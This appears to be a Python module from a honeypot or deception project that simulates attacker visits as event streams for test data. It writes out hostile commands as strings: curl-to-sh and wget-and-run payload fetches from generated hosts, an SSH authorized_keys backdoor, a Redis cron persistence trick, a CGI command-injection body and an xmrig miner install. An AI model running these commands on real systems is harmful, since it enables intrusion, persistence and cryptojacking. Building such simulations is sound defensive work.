# SPDX-License-Identifier: MIT
"""What a visit in the third world consists of: of those who have marks, of worms, and of the many without any."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random
from typing import NamedTuple

from decnet_core.events.catalogue import (
    ClientIdentified,
    CommandRun,
    ConnectionOpened,
    FileCaptured,
    HttpClient,
    HttpRequest,
    LoginAttempt,
    Payload,
    ServiceRequest,
    SessionClosed,
    SessionOpened,
    SshKex,
    TcpStack,
    TlsClient,
)
from planted import arsenal
from planted.arsenal import Client, Key, Marks, hexadecimal, word
from planted.visits import Acts


class Equipment(NamedTuple):
    """With what somebody comes."""

    marks: Marks
    key: Key
    """Their own, or one that they have taken from somebody."""
    url: str
    """Where their program is."""


def arrive(client: Client, service: str = "ssh") -> Iterator[Payload]:
    yield ConnectionOpened(service)
    yield TcpStack("syn", "4:64", client.stack)
    if service == "ssh":
        yield SshKex("client", client.banner, client.hassh, "algorithms")
        yield ClientIdentified("ssh", client.banner)


def guess(dice: Random, at: Equipment) -> Iterator[Payload]:
    yield from arrive(at.marks.client)
    start = dice.randrange(len(at.marks.words))
    for user, secret in (at.marks.words * 2)[start : start + dice.randrange(6, 25)]:
        yield LoginAttempt("ssh", user, False, password=secret)


def _lines(dice: Random, at: Equipment) -> Iterator[str]:
    for line in at.marks.habit.lines:
        if dice.random() < 0.8:
            yield line.replace("{url}", at.url).replace("{pub}", at.key.line)


def shell(dice: Random, at: Equipment) -> Iterator[Payload]:
    yield from arrive(at.marks.client)
    if dice.random() < 0.6:
        yield LoginAttempt("ssh", "root", True, "publickey", public_key=at.key.fingerprint)
    else:
        yield LoginAttempt("ssh", "root", True, password="123456")
    yield SessionOpened("ssh", "root", "xterm")
    lines = [*_lines(dice, at)]
    yield from (CommandRun("ssh", line) for line in lines)
    yield SessionClosed("ssh", dice.randrange(9_000, 900_000), len(lines))


def drop(dice: Random, at: Equipment) -> Iterator[Payload]:
    yield from arrive(at.marks.client)
    yield LoginAttempt("ssh", "root", True, password=dice.choice(("admin", "123456", "root")))
    lines = [line for line in _lines(dice, at) if dice.random() < 0.6] or [f"wget {at.url}"]
    lines += [] if any(at.url in line for line in lines) else [f"curl -s {at.url} | sh"]
    yield from (CommandRun("ssh", line) for line in lines)
    yield FileCaptured("ssh", at.marks.build, 30_000, None, at.url)


def web(dice: Random, at: Equipment) -> Iterator[Payload]:
    client = at.marks.client
    yield from arrive(client, "http")
    yield TlsClient("tcp", "0" * 32, client.ja4, 0x0303)
    yield HttpClient("GET", "HTTP/1.1", "other", client.headers, ("Host",), at.marks.agent)
    for path in dice.sample(("/", "/.env", "/solr/admin", "/_cat", "/manager/html"), 2):
        yield HttpRequest("GET", path, user_agent=at.marks.agent, status=404)
    if dice.random() < 0.8:
        body = f"cmd=curl%20{at.url}" if dice.random() < 0.3 else f"cmd=curl {at.url} | sh"
        yield HttpRequest("POST", "/cgi-bin/x", user_agent=at.marks.agent, status=200, body=body, body_bytes=len(body))


def redis(dice: Random, at: Equipment) -> Iterator[Payload]:
    yield from arrive(at.marks.client, "redis")
    yield ServiceRequest("redis", "CONFIG", {"ARGS": "SET dir /root/.ssh"})
    if dice.random() < 0.6:
        yield ServiceRequest("redis", "SET", {"ARGS": f"x {at.key.line}"})
    else:
        yield ServiceRequest("redis", "SET", {"ARGS": f"x */2 * * * * root curl {at.url} | sh"})


class Worm:
    """A variant of commodity malware."""

    def __init__(self, dice: Random) -> None:
        self._words = [
            (dice.choice(arsenal.ACCOUNTS), f"{word(dice, 2)}{dice.randrange(10)}")
            for _ in range(dice.randrange(20, 90))
        ]
        self._url, self._build = f"http://{arsenal.domain(dice)}/{word(dice, 2)}/x86", hexadecimal(dice, 64)
        self._key, self._name = arsenal.key(dice), word(dice, 2).upper()
        self.telnet = dice.random() < 0.6

    def acts(self, dice: Random) -> Iterator[Payload]:
        """Yield what an infected device does."""
        service = "telnet" if self.telnet else "ssh"
        if not self.telnet:
            yield from arrive(arsenal.COMMON[0])
        for user, secret in dice.sample(self._words, dice.randrange(3, 14)):
            yield LoginAttempt(service, user, False, password=secret)
        if self.telnet:
            for line in (
                "sh",
                "/bin/busybox ps",
                f"/bin/busybox {self._name}",
                f"wget {self._url}; chmod 777 x86; ./x86",
            ):
                yield CommandRun("telnet", line)
        else:
            yield CommandRun(
                "ssh", f"cd ~ && rm -rf .ssh && mkdir .ssh && echo '{self._key.line}' >> .ssh/authorized_keys"
            )
            yield CommandRun("ssh", f"curl -s {self._url} | bash; pkill -9 {self._name.lower()}")
        yield FileCaptured(service, self._build, 80_000, None, self._url)


def stock(dice: Random, client: Client) -> Acts:
    number = dice.randrange(5)

    def acts(dice: Random) -> Iterator[Payload]:
        yield from arrive(client)
        for place in range(dice.randrange(5, 20)):
            seed = Random(f"stock list {number} {place}")
            yield LoginAttempt(
                "ssh",
                seed.choice(arsenal.ACCOUNTS),
                False,
                password=seed.choice(("123456", "admin", "1234", "toor", "pass", word(seed, 2))),
            )

    return acts


def scan(dice: Random, client: Client) -> Iterator[Payload]:
    yield from arrive(client, "http")
    yield HttpClient("GET", "HTTP/1.1", "scanner", client.headers, ("Host",), client.agent)
    for path in dice.sample(("/", "/.env", "/solr/admin", "/_cat", "/manager/html", "/v2/_catalog"), 2):
        yield HttpRequest("GET", path, user_agent=client.agent, status=404)


def published(dice: Random, client: Client) -> Iterator[Payload]:
    """A script from a tutorial: the same for all, but for the wallet or the host that they put in."""
    yield from arrive(client)
    yield LoginAttempt("ssh", "root", True, password=dice.choice(("admin", "123456")))
    for line in (
        "cd /tmp; rm -rf xm",
        "curl -L https://github.com/xmrig/xmrig/releases/x.tgz | tar xz",
        f"./xm/xmrig -o pool.minexmr.com -u 4{hexadecimal(dice, 40)}",
        "uname -a; nproc",
    ):
        yield CommandRun("ssh", line)
